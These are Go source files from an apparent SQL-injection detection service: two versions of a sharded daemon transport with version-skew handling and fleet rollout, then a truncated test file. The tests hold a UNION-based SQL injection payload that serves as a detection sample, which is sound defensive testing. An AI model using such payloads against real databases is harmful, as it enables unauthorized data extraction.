	// tracer is configured. Availability over coherence.
	SkewWarn SkewPolicy = iota
	// SkewRefuseMixed refuses stale verdicts with ErrVersionSkew so
	// callers never act on a superseded policy generation. Coherence over
	// availability: the refusals are per check (per item in batches) and
	// end the moment the lagging shard converges.
	SkewRefuseMixed
)

// abortTimeout bounds the best-effort fleet-wide abort after a failed
// prepare. It is a fresh budget: the rollout's own context may be the
// reason prepare failed.
const abortTimeout = 5 * time.Second

// ShardedPool is a Transport over a fleet of jozad daemons: a consistent-
// hash ring routes every check to one shard, each shard is its own Pool
// with its own connections, retries and circuit breaker, and the control
// verbs (stats, traces) fan out to the whole fleet and merge. Because both
// routing and failure isolation are per shard, one dead daemon degrades
// only the keys it owns — checks routed to its siblings never notice, and
// the degradation policy of the HybridClient above applies per check.
//
// Routing key. By default a check routes by its query text, which spreads
// load but requires every shard to hold the full fragment corpus (the
// replicated scale-out jozad runs by default). A fleet whose shards hold
// fragment slices (jozad -shard i/n) must route each check by the same key
// the corpus was sliced on — use WithShardKey or AnalyzeKeyContext with a
// stable key such as the application or tenant name, so a check always
// lands on the shard holding the fragments that could cover it.
type ShardedPool struct {
	pools []*Pool
	names []string
	ring  *guardrail.Ring
	key   func(query string) string

	skew       SkewPolicy
	skewTracer *trace.Tracer

	// Version bookkeeping: the last snapshot version each shard reported
	// (on replies, stats and commits) and the fleet's current version
	// under the transition-defines-current rule — when a shard is
	// observed moving to a new version, that version becomes current and
	// shards still answering from another one are stale. staleServed
	// counts the stale verdicts each shard served.
	verMu       sync.Mutex
	shardVer    []string
	current     string
	staleServed []uint64
}

var _ Transport = (*ShardedPool)(nil)

// ShardedPoolOption configures a ShardedPool.
type ShardedPoolOption func(*shardedPoolConfig)

type shardedPoolConfig struct {
	names      []string
	replicas   int
	key        func(query string) string
	skew       SkewPolicy
	skewTracer *trace.Tracer
}

// WithShardNames labels the shards for stats and error messages (default:
// the dial address for DialShardedPool, "shard-i" otherwise). len(names)
// must match the shard count.
func WithShardNames(names []string) ShardedPoolOption {
	return func(c *shardedPoolConfig) { c.names = names }
}

// WithRingReplicas overrides the ring's virtual-node count per shard
// (default guardrail.DefaultRingReplicas).
func WithRingReplicas(n int) ShardedPoolOption {
	return func(c *shardedPoolConfig) { c.replicas = n }
}

// WithShardKey sets the routing-key function applied to each query
// (default: the query text itself). A fleet of fragment-sliced shards must
// key by whatever the corpus was sliced on.
func WithShardKey(fn func(query string) string) ShardedPoolOption {
	return func(c *shardedPoolConfig) { c.key = fn }
}

// WithSkewPolicy selects how verdicts from version-skewed shards are
// handled (default SkewWarn). Only versioned daemons participate: shards
// reporting no version are never considered skewed.
func WithSkewPolicy(p SkewPolicy) ShardedPoolOption {
	return func(c *shardedPoolConfig) { c.skew = p }
}

// WithSkewTracer captures a notable trace span for every verdict a stale
// shard serves, whatever the skew policy, so operators can see exactly
// which checks crossed the mixed-version window.
func WithSkewTracer(t *trace.Tracer) ShardedPoolOption {
	return func(c *shardedPoolConfig) { c.skewTracer = t }
}

// NewShardedPool builds a sharded transport over caller-built per-shard
// pools. The pool order defines shard indexes: pools[i] serves ring shard
// i, so every client and daemon of one fleet must list shards in the same
// order.
func NewShardedPool(pools []*Pool, opts ...ShardedPoolOption) (*ShardedPool, error) {
	if len(pools) == 0 {
		return nil, errors.New("daemon: sharded pool needs at least one shard")
	}
	var cfg shardedPoolConfig
	for _, o := range opts {
		o(&cfg)
	}
	if cfg.names == nil {
		cfg.names = make([]string, len(pools))
		for i := range pools {
			cfg.names[i] = fmt.Sprintf("shard-%d", i)
		}
	}
	if len(cfg.names) != len(pools) {
		return nil, fmt.Errorf("daemon: %d shard names for %d shards", len(cfg.names), len(pools))
	}
	if cfg.key == nil {
		cfg.key = func(query string) string { return query }
	}
	return &ShardedPool{
		pools:       pools,
		names:       cfg.names,
		ring:        guardrail.NewRing(len(pools), cfg.replicas),
		key:         cfg.key,
		skew:        cfg.skew,
		skewTracer:  cfg.skewTracer,
		shardVer:    make([]string, len(pools)),
		staleServed: make([]uint64, len(pools)),
	}, nil
}

// DialShardedPool builds a sharded transport over TCP daemons at addrs,
// one Pool per address with the shared per-shard config. Shard i is
// addrs[i]; the same address order must be used fleet-wide.
func DialShardedPool(addrs []string, cfg PoolConfig, opts ...ShardedPoolOption) (*ShardedPool, error) {
	pools := make([]*Pool, len(addrs))
	for i, addr := range addrs {
		pools[i] = DialPool(addr, cfg)
	}
	return NewShardedPool(pools, append([]ShardedPoolOption{WithShardNames(addrs)}, opts...)...)
}

// Shards returns the fleet size.
func (sp *ShardedPool) Shards() int { return len(sp.pools) }

// Owner returns the shard index that key routes to.
func (sp *ShardedPool) Owner(key string) int { return sp.ring.Owner(key) }

// observeVersion folds one shard's reported snapshot version into the
// fleet bookkeeping and reports whether the shard is stale. The rule is
// transition-defines-current: a shard observed *changing* versions (a
// commit, or a restart picking up new state) defines the fleet's current
// version; a shard repeating a version that is no longer current is
// stale. A shard's very first report only defines current when none is
// known yet, so the observation order of a settled fleet doesn't matter.
// Unversioned reports (v == "") never participate.
func (sp *ShardedPool) observeVersion(s int, v string) bool {
	if v == "" {
		return false
	}
	sp.verMu.Lock()
	defer sp.verMu.Unlock()
	prev := sp.shardVer[s]
	if prev != v {
		sp.shardVer[s] = v
		if prev != "" || sp.current == "" {
			sp.current = v
			return false
		}
	}
	if v != sp.current {
		sp.staleServed[s]++
		return true
	}
	return false
}

// CurrentVersion returns the fleet's current snapshot version under the
// transition-defines-current rule ("" until any shard reports one).
func (sp *ShardedPool) CurrentVersion() string {
	sp.verMu.Lock()
	defer sp.verMu.Unlock()
	return sp.current
}

// checkSkew applies the skew policy to one shard's reply: observe the
// version it was served from, trace the check when the shard is stale,
// and refuse it under SkewRefuseMixed. The refusal is a healthy-stream
// error — the shard and its connections are fine, only this verdict's
// policy generation is not.
func (sp *ShardedPool) checkSkew(s int, query string, reply *AnalysisReply) error {
	if !sp.observeVersion(s, reply.Version) {
		return nil
	}
	detail := fmt.Sprintf("shard %s served snapshot %s while the fleet's current is %s",
		sp.names[s], reply.Version, sp.CurrentVersion())
	if sp.skewTracer != nil {
		span := sp.skewTracer.StartAlways(query)
		span.SetVersionSkew(detail)
		span.SetVerdict(false, reply.Attack, reply.Profile != nil && reply.Profile.Attack)
		sp.skewTracer.Finish(span)
	}
	if sp.skew == SkewRefuseMixed {
		return fmt.Errorf("%w: %s", ErrVersionSkew, detail)
	}
	return nil
}

// Analyze implements Transport.
func (sp *ShardedPool) Analyze(query string) (*AnalysisReply, error) {
	return sp.AnalyzeContext(context.Background(), query)
}

// AnalyzeContext implements Transport: the check routes to the shard
// owning its key (by default the query text) and runs on that shard's pool
// with that shard's retries and breaker.
func (sp *ShardedPool) AnalyzeContext(ctx context.Context, query string) (*AnalysisReply, error) {
	return sp.AnalyzeKeyContext(ctx, sp.key(query), query)
}

// AnalyzeKeyContext analyzes query on the shard owning key, for callers
// whose routing key is not the query itself (per-application fragment
// slices route by application name, multi-tenant fleets by tenant).
func (sp *ShardedPool) AnalyzeKeyContext(ctx context.Context, key, query string) (*AnalysisReply, error) {
	s := sp.ring.Owner(key)
	reply, err := sp.pools[s].AnalyzeContext(ctx, query)
	if err != nil {
		return nil, fmt.Errorf("shard %s: %w", sp.names[s], err)
	}
	if err := sp.checkSkew(s, query, reply); err != nil {
		return nil, err
	}
	return reply, nil
}

// AnalyzeSiteContext implements siteTransport: routes by the query (the
// default routing key) and carries the call site to the owning shard so
// its daemon runs the query-skeleton profile stage. Profiled fleets must
// share one profile store (or shard it by the same key).
func (sp *ShardedPool) AnalyzeSiteContext(ctx context.Context, site, query string) (*AnalysisReply, error) {
	s := sp.ring.Owner(sp.key(query))
	reply, err := sp.pools[s].AnalyzeSiteContext(ctx, site, query)
	if err != nil {
		return nil, fmt.Errorf("shard %s: %w", sp.names[s], err)
	}
	if err := sp.checkSkew(s, query, reply); err != nil {
		return nil, err
	}
	return reply, nil
}

// AnalyzeBatch analyzes queries across the fleet: items group by owning
// shard, each group rides one per-shard batch frame (the groups run
// concurrently), and the results reassemble in input order. A shard
// failure fails only its own items — their BatchResult.Err carries the
// shard's error while items on healthy shards return normally — so a dead
// shard mid-batch degrades exactly its keyspace, like single checks.
func (sp *ShardedPool) AnalyzeBatch(ctx context.Context, queries []string) ([]BatchResult, error) {
	if len(queries) == 0 {
		return nil, nil
	}
	groups := make([][]int, len(sp.pools))
	for i, q := range queries {
		s := sp.ring.Owner(sp.key(q))
		groups[s] = append(groups[s], i)
	}
	out := make([]BatchResult, len(queries))
	var wg sync.WaitGroup
	for s, idxs := range groups {
		if len(idxs) == 0 {
			continue
		}
		wg.Add(1)
		go func(s int, idxs []int) {
			defer wg.Done()
			qs := make([]string, len(idxs))
			for j, i := range idxs {
				qs[j] = queries[i]
			}
			results, err := sp.pools[s].AnalyzeBatch(ctx, qs)
			if err != nil {
				shardErr := fmt.Errorf("shard %s: %w", sp.names[s], err)
				for _, i := range idxs {
					out[i] = BatchResult{Err: shardErr}
				}
				return
			}
			for j, i := range idxs {
				out[i] = results[j]
				if r := results[j].Reply; r != nil {
					// Skew refusals are per item: a stale shard poisons
					// only the items it answered, exactly like its other
					// healthy-stream failures.
					if err := sp.checkSkew(s, qs[j], r); err != nil {
						out[i] = BatchResult{Err: err}
					}
				}
			}
		}(s, idxs)
	}
	wg.Wait()
	return out, nil
}

// shardHealth snapshots one shard's transport-side health: its breaker
// and its pool's dial/exhaustion counters.
func (sp *ShardedPool) shardHealth(s int) metrics.ShardHealth {
	p := sp.pools[s]
	st := p.BreakerStats()
	h := metrics.ShardHealth{
		Shard:          sp.names[s],
		BreakerState:   st.State,
		BreakerTrips:   st.Trips,
		BreakerRejects: st.Rejects,
		BreakerProbes:  st.Probes,
		Dials:          p.Dials(),
		Exhausted:      p.Exhausted(),
	}
	sp.verMu.Lock()
	h.Version = sp.shardVer[s]
	h.StaleServed = sp.staleServed[s]
	sp.verMu.Unlock()
	return h
}

// ShardStats snapshots every shard's transport-side health. HybridClient
// folds it into Metrics for transports that provide it.
func (sp *ShardedPool) ShardStats() []metrics.ShardHealth {
	out := make([]metrics.ShardHealth, len(sp.pools))
	for s := range sp.pools {
		out[s] = sp.shardHealth(s)
	}
	return out
}

// Stats fetches every reachable shard's counters and merges them into one
// fleet-wide snapshot (counters summed, histograms merged bucket-wise with
// fleet quantiles re-derived), with per-shard transport health in
// Snapshot.Shards. A shard that cannot answer is reported in its
// ShardHealth.Err and excluded from the merge; the call only fails when no
// shard answers.
func (sp *ShardedPool) Stats() (*StatsReply, error) {
	snaps := make([]metrics.Snapshot, 0, len(sp.pools))
	perShard := make([]metrics.ShardHealth, len(sp.pools))
	var errs []error
	for s, p := range sp.pools {
		st, err := p.Stats()
		if err != nil {
			perShard[s] = sp.shardHealth(s)
			perShard[s].Err = err.Error()
			errs = append(errs, fmt.Errorf("shard %s: %w", sp.names[s], err))
			continue
		}
		// A stats fetch is a version observation too, so a fleet that has
		// served no checks since a rollout still reports accurate skew.
		sp.observeVersion(s, st.SnapshotVersion)
		perShard[s] = sp.shardHealth(s)
		snaps = append(snaps, *st)
	}
	if len(snaps) == 0 {
		return nil, fmt.Errorf("daemon: stats failed on all %d shards: %w", len(sp.pools), errors.Join(errs...))
	}
	merged := metrics.Merge(snaps...)
	merged.Shards = perShard
	return &merged, nil
}

// Traces fetches every reachable shard's trace rings and concatenates
// them, in shard order, with the span counters summed. Unreachable shards
// are skipped; the call only fails when no shard answers.
func (sp *ShardedPool) Traces() (*TracesReply, error) {
	merged := trace.Dump{Recent: []trace.Span{}, Notable: []trace.Span{}}
	var errs []error
	ok := 0
	for s, p := range sp.pools {
		d, err := p.Traces()
		if err != nil {
			errs = append(errs, fmt.Errorf("shard %s: %w", sp.names[s], err))
			continue
		}
		ok++
		merged.Started += d.Started
		merged.Finished += d.Finished
		merged.Recent = append(merged.Recent, d.Recent...)
		merged.Notable = append(merged.Notable, d.Notable...)
	}
	if ok == 0 {
		return nil, fmt.Errorf("daemon: traces failed on all %d shards: %w", len(sp.pools), errors.Join(errs...))
	}
	return &merged, nil
}

// ShardRollout is one shard's outcome within a fleet Rollout: its name,
// the terminal state the coordinator saw ("staged", "committed",
// "aborted" or "failed"), the snapshot version it acted on, and the error
// text when it failed.
type ShardRollout struct {
	Shard   string `json:"shard"`
	State   string `json:"state"`
	Version string `json:"version,omitempty"`
	Err     string `json:"err,omitempty"`
}

// RolloutReport is the fleet-wide outcome of one Rollout: the version the
// fleet converged on (empty when the rollout aborted) and every shard's
// terminal state.
type RolloutReport struct {
	Version string         `json:"version,omitempty"`
	Shards  []ShardRollout `json:"shards"`
}

// Rollout coordinates a two-phase fleet-wide snapshot rollout: prepare on
// every shard concurrently, then — only if every shard staged the same
// version — commit on every shard, pinned to that version. Failure
// containment:
//
//   - Any failed prepare, or shards staging different versions, aborts
//     the whole fleet (best-effort, bounded): no shard commits, every
//     healthy shard keeps serving its old snapshot untouched, and the
//     error says so. A fleet never half-commits because one shard's
//     source tree is corrupt.
//   - A failed commit (a shard crashed between prepare and commit) leaves
//     the shards that already committed on the new version — the staged
//     state they swapped in is the whole self-tested generation, so
//     serving it is strictly better than re-aborting a live fleet. The
//     dead shard rebuilds from the same source on restart and converges;
//     re-running Rollout after the restart is a cheap no-op re-converge.
//
// The report always describes every shard, error or not, so callers can
// render exactly which shard did what.
func (sp *ShardedPool) Rollout(ctx context.Context) (*RolloutReport, error) {
	report := &RolloutReport{Shards: make([]ShardRollout, len(sp.pools))}
	var wg sync.WaitGroup
	for s := range sp.pools {
		report.Shards[s].Shard = sp.names[s]
		wg.Add(1)
		go func(s int) {
			defer wg.Done()
			r, err := sp.pools[s].Prepare(ctx)
			if err != nil {
				report.Shards[s].State = "failed"
				report.Shards[s].Err = err.Error()
				return
			}
			report.Shards[s].State = r.State
			report.Shards[s].Version = r.Version
		}(s)
	}
	wg.Wait()
	version := report.Shards[0].Version
	var prepErr error
	for s := range report.Shards {
		sh := &report.Shards[s]
		switch {
		case sh.State != "staged":
			prepErr = fmt.Errorf("shard %s prepare failed: %s", sh.Shard, sh.Err)
		case sh.Version != version:
			// Shards staging different versions means their sources have
			// diverged (a half-synced deploy); committing would
			// permanently mix generations, so nothing commits.
			prepErr = fmt.Errorf("staged versions diverge: shard %s staged %q, shard %s staged %q",
				report.Shards[0].Shard, version, sh.Shard, sh.Version)
		}
		if prepErr != nil {
			break
		}
	}
	if prepErr != nil {
		sp.abortAll(report)
		return report, fmt.Errorf("rollout aborted, fleet keeps serving its old snapshot: %w", prepErr)
	}
	report.Version = version
	var failed sync.Map
	for s := range sp.pools {
		wg.Add(1)
		go func(s int) {
			defer wg.Done()
			r, err := sp.pools[s].Commit(ctx, version)
			if err != nil {
				report.Shards[s].State = "failed"
				report.Shards[s].Err = err.Error()
				failed.Store(s, err)
				return
			}
			report.Shards[s].State = r.State
			report.Shards[s].Version = r.Version
			sp.observeVersion(s, r.Version)
		}(s)
	}
	wg.Wait()
	var commitErrs []error
	failed.Range(func(s, err any) bool {
		commitErrs = append(commitErrs, fmt.Errorf("shard %s: %w", sp.names[s.(int)], err.(error)))
		return true
	})
	if len(commitErrs) > 0 {
		return report, fmt.Errorf("rollout to %s committed on %d/%d shards (committed shards keep the new snapshot; restart the failed ones and re-run): %w",
			version, len(sp.pools)-len(commitErrs), len(sp.pools), errors.Join(commitErrs...))
	}
	return report, nil
}

// abortAll discards staged state fleet-wide, best effort under a fresh
// bounded context (the rollout's own context may already be dead — that
// can be why prepare failed). Shards that were successfully staged are
// marked aborted in the report; failures to abort are recorded but not
// escalated, since an unreachable shard's staged state dies with its
// process anyway.
func (sp *ShardedPool) abortAll(report *RolloutReport) {
	ctx, cancel := context.WithTimeout(context.Background(), abortTimeout)
	defer cancel()
	var wg sync.WaitGroup
	for s := range sp.pools {
		wg.Add(1)
		go func(s int) {
			defer wg.Done()
			if _, err := sp.pools[s].Abort(ctx); err != nil {
				if report.Shards[s].Err == "" {
					report.Shards[s].Err = "abort: " + err.Error()
				}
				return
			}
			if report.Shards[s].State == "staged" {
				report.Shards[s].State = "aborted"
			}
		}(s)
	}
	wg.Wait()
}

// Close implements Transport: every shard's pool closes; the first error
// is returned.
func (sp *ShardedPool) Close() error {
	var err error
	for _, p := range sp.pools {
		if cerr := p.Close(); cerr != nil && err == nil {
			err = cerr
		}
	}
	return err
}
