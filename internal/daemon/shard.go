package daemon

import (
	"context"
	"errors"
	"fmt"
	"sync"

	"joza/internal/guardrail"
	"joza/internal/metrics"
	"joza/internal/trace"
)

// ShardedPool is a Transport over a fleet of jozad daemons: a consistent-
// hash ring routes every check to one shard, each shard is its own Pool
// with its own connections, retries and circuit breaker, and the control
// verbs (stats, traces) fan out to the whole fleet and merge. Because both
// routing and failure isolation are per shard, one dead daemon degrades
// only the keys it owns — checks routed to its siblings never notice, and
// the degradation policy of the HybridClient above applies per check.
//
// Routing key. By default a check routes by its query text, which spreads
// load but requires every shard to hold the full fragment corpus (the
// replicated scale-out jozad runs by default). A fleet whose shards hold
// fragment slices (jozad -shard i/n) must route each check by the same key
// the corpus was sliced on — use WithShardKey or AnalyzeKeyContext with a
// stable key such as the application or tenant name, so a check always
// lands on the shard holding the fragments that could cover it.
type ShardedPool struct {
	pools []*Pool
	names []string
	ring  *guardrail.Ring
	key   func(query string) string
}

var _ Transport = (*ShardedPool)(nil)

// ShardedPoolOption configures a ShardedPool.
type ShardedPoolOption func(*shardedPoolConfig)

type shardedPoolConfig struct {
	names    []string
	replicas int
	key      func(query string) string
}

// WithShardNames labels the shards for stats and error messages (default:
// the dial address for DialShardedPool, "shard-i" otherwise). len(names)
// must match the shard count.
func WithShardNames(names []string) ShardedPoolOption {
	return func(c *shardedPoolConfig) { c.names = names }
}

// WithRingReplicas overrides the ring's virtual-node count per shard
// (default guardrail.DefaultRingReplicas).
func WithRingReplicas(n int) ShardedPoolOption {
	return func(c *shardedPoolConfig) { c.replicas = n }
}

// WithShardKey sets the routing-key function applied to each query
// (default: the query text itself). A fleet of fragment-sliced shards must
// key by whatever the corpus was sliced on.
func WithShardKey(fn func(query string) string) ShardedPoolOption {
	return func(c *shardedPoolConfig) { c.key = fn }
}

// NewShardedPool builds a sharded transport over caller-built per-shard
// pools. The pool order defines shard indexes: pools[i] serves ring shard
// i, so every client and daemon of one fleet must list shards in the same
// order.
func NewShardedPool(pools []*Pool, opts ...ShardedPoolOption) (*ShardedPool, error) {
	if len(pools) == 0 {
		return nil, errors.New("daemon: sharded pool needs at least one shard")
	}
	var cfg shardedPoolConfig
	for _, o := range opts {
		o(&cfg)
	}
	if cfg.names == nil {
		cfg.names = make([]string, len(pools))
		for i := range pools {
			cfg.names[i] = fmt.Sprintf("shard-%d", i)
		}
	}
	if len(cfg.names) != len(pools) {
		return nil, fmt.Errorf("daemon: %d shard names for %d shards", len(cfg.names), len(pools))
	}
	if cfg.key == nil {
		cfg.key = func(query string) string { return query }
	}
	return &ShardedPool{
		pools: pools,
		names: cfg.names,
		ring:  guardrail.NewRing(len(pools), cfg.replicas),
		key:   cfg.key,
	}, nil
}

// DialShardedPool builds a sharded transport over TCP daemons at addrs,
// one Pool per address with the shared per-shard config. Shard i is
// addrs[i]; the same address order must be used fleet-wide.
func DialShardedPool(addrs []string, cfg PoolConfig, opts ...ShardedPoolOption) (*ShardedPool, error) {
	pools := make([]*Pool, len(addrs))
	for i, addr := range addrs {
		pools[i] = DialPool(addr, cfg)
	}
	return NewShardedPool(pools, append([]ShardedPoolOption{WithShardNames(addrs)}, opts...)...)
}

// Shards returns the fleet size.
func (sp *ShardedPool) Shards() int { return len(sp.pools) }

// Owner returns the shard index that key routes to.
func (sp *ShardedPool) Owner(key string) int { return sp.ring.Owner(key) }

// Analyze implements Transport.
func (sp *ShardedPool) Analyze(query string) (*AnalysisReply, error) {
	return sp.AnalyzeContext(context.Background(), query)
}

// AnalyzeContext implements Transport: the check routes to the shard
// owning its key (by default the query text) and runs on that shard's pool
// with that shard's retries and breaker.
func (sp *ShardedPool) AnalyzeContext(ctx context.Context, query string) (*AnalysisReply, error) {
	return sp.AnalyzeKeyContext(ctx, sp.key(query), query)
}

// AnalyzeKeyContext analyzes query on the shard owning key, for callers
// whose routing key is not the query itself (per-application fragment
// slices route by application name, multi-tenant fleets by tenant).
func (sp *ShardedPool) AnalyzeKeyContext(ctx context.Context, key, query string) (*AnalysisReply, error) {
	s := sp.ring.Owner(key)
	reply, err := sp.pools[s].AnalyzeContext(ctx, query)
	if err != nil {
		return nil, fmt.Errorf("shard %s: %w", sp.names[s], err)
	}
	return reply, nil
}

// AnalyzeSiteContext implements siteTransport: routes by the query (the
// default routing key) and carries the call site to the owning shard so
// its daemon runs the query-skeleton profile stage. Profiled fleets must
// share one profile store (or shard it by the same key).
func (sp *ShardedPool) AnalyzeSiteContext(ctx context.Context, site, query string) (*AnalysisReply, error) {
	s := sp.ring.Owner(sp.key(query))
	reply, err := sp.pools[s].AnalyzeSiteContext(ctx, site, query)
	if err != nil {
		return nil, fmt.Errorf("shard %s: %w", sp.names[s], err)
	}
	return reply, nil
}

// AnalyzeBatch analyzes queries across the fleet: items group by owning
// shard, each group rides one per-shard batch frame (the groups run
// concurrently), and the results reassemble in input order. A shard
// failure fails only its own items — their BatchResult.Err carries the
// shard's error while items on healthy shards return normally — so a dead
// shard mid-batch degrades exactly its keyspace, like single checks.
func (sp *ShardedPool) AnalyzeBatch(ctx context.Context, queries []string) ([]BatchResult, error) {
	if len(queries) == 0 {
		return nil, nil
	}
	groups := make([][]int, len(sp.pools))
	for i, q := range queries {
		s := sp.ring.Owner(sp.key(q))
		groups[s] = append(groups[s], i)
	}
	out := make([]BatchResult, len(queries))
	var wg sync.WaitGroup
	for s, idxs := range groups {
		if len(idxs) == 0 {
			continue
		}
		wg.Add(1)
		go func(s int, idxs []int) {
			defer wg.Done()
			qs := make([]string, len(idxs))
			for j, i := range idxs {
				qs[j] = queries[i]
			}
			results, err := sp.pools[s].AnalyzeBatch(ctx, qs)
			if err != nil {
				shardErr := fmt.Errorf("shard %s: %w", sp.names[s], err)
				for _, i := range idxs {
					out[i] = BatchResult{Err: shardErr}
				}
				return
			}
			for j, i := range idxs {
				out[i] = results[j]
			}
		}(s, idxs)
	}
	wg.Wait()
	return out, nil
}

// shardHealth snapshots one shard's transport-side health: its breaker
// and its pool's dial/exhaustion counters.
func (sp *ShardedPool) shardHealth(s int) metrics.ShardHealth {
	p := sp.pools[s]
	st := p.BreakerStats()
	return metrics.ShardHealth{
		Shard:          sp.names[s],
		BreakerState:   st.State,
		BreakerTrips:   st.Trips,
		BreakerRejects: st.Rejects,
		BreakerProbes:  st.Probes,
		Dials:          p.Dials(),
		Exhausted:      p.Exhausted(),
	}
}

// ShardStats snapshots every shard's transport-side health. HybridClient
// folds it into Metrics for transports that provide it.
func (sp *ShardedPool) ShardStats() []metrics.ShardHealth {
	out := make([]metrics.ShardHealth, len(sp.pools))
	for s := range sp.pools {
		out[s] = sp.shardHealth(s)
	}
	return out
}

// Stats fetches every reachable shard's counters and merges them into one
// fleet-wide snapshot (counters summed, histograms merged bucket-wise with
// fleet quantiles re-derived), with per-shard transport health in
// Snapshot.Shards. A shard that cannot answer is reported in its
// ShardHealth.Err and excluded from the merge; the call only fails when no
// shard answers.
func (sp *ShardedPool) Stats() (*StatsReply, error) {
	snaps := make([]metrics.Snapshot, 0, len(sp.pools))
	perShard := make([]metrics.ShardHealth, len(sp.pools))
	var errs []error
	for s, p := range sp.pools {
		perShard[s] = sp.shardHealth(s)
		st, err := p.Stats()
		if err != nil {
			perShard[s].Err = err.Error()
			errs = append(errs, fmt.Errorf("shard %s: %w", sp.names[s], err))
			continue
		}
		snaps = append(snaps, *st)
	}
	if len(snaps) == 0 {
		return nil, fmt.Errorf("daemon: stats failed on all %d shards: %w", len(sp.pools), errors.Join(errs...))
	}
	merged := metrics.Merge(snaps...)
	merged.Shards = perShard
	return &merged, nil
}

// Traces fetches every reachable shard's trace rings and concatenates
// them, in shard order, with the span counters summed. Unreachable shards
// are skipped; the call only fails when no shard answers.
func (sp *ShardedPool) Traces() (*TracesReply, error) {
	merged := trace.Dump{Recent: []trace.Span{}, Notable: []trace.Span{}}
	var errs []error
	ok := 0
	for s, p := range sp.pools {
		d, err := p.Traces()
		if err != nil {
			errs = append(errs, fmt.Errorf("shard %s: %w", sp.names[s], err))
			continue
		}
		ok++
		merged.Started += d.Started
		merged.Finished += d.Finished
		merged.Recent = append(merged.Recent, d.Recent...)
		merged.Notable = append(merged.Notable, d.Notable...)
	}
	if ok == 0 {
		return nil, fmt.Errorf("daemon: traces failed on all %d shards: %w", len(sp.pools), errors.Join(errs...))
	}
	return &merged, nil
}

// Close implements Transport: every shard's pool closes; the first error
// is returned.
func (sp *ShardedPool) Close() error {
	var err error
	for _, p := range sp.pools {
		if cerr := p.Close(); cerr != nil && err == nil {
			err = cerr
		}
	}
	return err
}
