package daemon

import (
	"net"
	"strings"
	"sync"
	"testing"

	"joza/internal/core"
	"joza/internal/fragments"
	"joza/internal/nti"
	"joza/internal/pti"
)

func newAnalyzer() *pti.Cached {
	set := fragments.NewSet([]string{
		"SELECT * FROM records WHERE ID=",
		" LIMIT 5",
	})
	return pti.NewCached(pti.New(set), pti.CacheQueryAndStructure, 128)
}

const (
	benignQuery = "SELECT * FROM records WHERE ID=5 LIMIT 5"
	attackQuery = "SELECT * FROM records WHERE ID=-1 UNION SELECT username() LIMIT 5"
)

func TestDirectTransport(t *testing.T) {
	d := NewDirect(newAnalyzer())
	defer d.Close()
	reply, err := d.Analyze(benignQuery)
	if err != nil {
		t.Fatal(err)
	}
	if reply.Attack {
		t.Error("benign flagged")
	}
	if len(reply.Tokens) == 0 {
		t.Error("no tokens returned")
	}
	reply, err = d.Analyze(attackQuery)
	if err != nil {
		t.Fatal(err)
	}
	if !reply.Attack || len(reply.Reasons) == 0 {
		t.Errorf("attack reply = %+v", reply)
	}
}

func startTCPServer(t *testing.T, analyzer *pti.Cached) string {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	srv := NewServer(analyzer)
	done := make(chan struct{})
	go func() {
		defer close(done)
		_ = srv.Serve(ln)
	}()
	t.Cleanup(func() {
		_ = srv.Close()
		<-done
	})
	return ln.Addr().String()
}

func TestRemoteTransportTCP(t *testing.T) {
	addr := startTCPServer(t, newAnalyzer())
	c, err := Dial(addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	reply, err := c.Analyze(attackQuery)
	if err != nil {
		t.Fatal(err)
	}
	if !reply.Attack {
		t.Error("attack missed over TCP")
	}
	// Tokens survive the round trip with positions intact.
	toks := reply.TokenStream()
	if len(toks) == 0 || toks[0].Text != "SELECT" || toks[0].Start != 0 {
		t.Errorf("tokens = %+v", toks[:1])
	}
}

func TestSpawnPipe(t *testing.T) {
	c, stop := SpawnPipe(newAnalyzer())
	defer stop()
	reply, err := c.Analyze(benignQuery)
	if err != nil {
		t.Fatal(err)
	}
	if reply.Attack {
		t.Error("benign flagged over pipe")
	}
	reply, err = c.Analyze(attackQuery)
	if err != nil {
		t.Fatal(err)
	}
	if !reply.Attack {
		t.Error("attack missed over pipe")
	}
}

func TestTransportsAgree(t *testing.T) {
	queries := []string{benignQuery, attackQuery, "DELETE FROM records", ""}
	direct := NewDirect(newAnalyzer())
	pipe, stop := SpawnPipe(newAnalyzer())
	defer stop()
	addr := startTCPServer(t, newAnalyzer())
	remote, err := Dial(addr)
	if err != nil {
		t.Fatal(err)
	}
	defer remote.Close()
	for _, q := range queries {
		want, err := direct.Analyze(q)
		if err != nil {
			t.Fatal(err)
		}
		for name, tr := range map[string]Transport{"pipe": pipe, "tcp": remote} {
			got, err := tr.Analyze(q)
			if err != nil {
				t.Fatalf("%s %q: %v", name, q, err)
			}
			if got.Attack != want.Attack || len(got.Tokens) != len(want.Tokens) {
				t.Errorf("%s %q: got %+v, want %+v", name, q, got, want)
			}
		}
	}
}

func TestHybridClient(t *testing.T) {
	c, stop := SpawnPipe(newAnalyzer())
	defer stop()
	h := NewHybridClient(c, nti.MustNew(), core.PolicyTerminate)

	// Benign.
	v, err := h.Check(benignQuery, []nti.Input{{Source: "get", Name: "id", Value: "5"}})
	if err != nil {
		t.Fatal(err)
	}
	if v.Attack {
		t.Errorf("benign flagged: %v", v.Reasons())
	}
	if err := h.Authorize(benignQuery, nil); err != nil {
		t.Errorf("Authorize benign: %v", err)
	}

	// Attack detected by both (token stream reused by NTI).
	payload := "-1 UNION SELECT username() "
	q := strings.TrimSuffix("SELECT * FROM records WHERE ID="+payload, " ") + " LIMIT 5"
	v, err = h.Check(q, []nti.Input{{Source: "get", Name: "id", Value: strings.TrimSpace(payload)}})
	if err != nil {
		t.Fatal(err)
	}
	if !v.NTI.Attack || !v.PTI.Attack {
		t.Errorf("detected by %v, want both", v.DetectedBy())
	}
	err = h.Authorize(q, nil)
	if err == nil {
		t.Fatal("Authorize allowed attack")
	}
	var ae *core.AttackError
	if !strings.Contains(err.Error(), "blocked") {
		t.Errorf("err = %v (%T, %v)", err, err, ae)
	}
}

func TestHybridClientNTIDisabled(t *testing.T) {
	d := NewDirect(newAnalyzer())
	h := NewHybridClient(d, nil, core.PolicyErrorVirtualize)
	v, err := h.Check(attackQuery, nil)
	if err != nil {
		t.Fatal(err)
	}
	if !v.PTI.Attack || v.NTI.Attack {
		t.Errorf("detected by %v", v.DetectedBy())
	}
	if err := h.Close(); err != nil {
		t.Error(err)
	}
}

func TestHybridClientTransportError(t *testing.T) {
	c, stop := SpawnPipe(newAnalyzer())
	stop() // closed transport
	h := NewHybridClient(c, nti.MustNew(), core.PolicyTerminate)
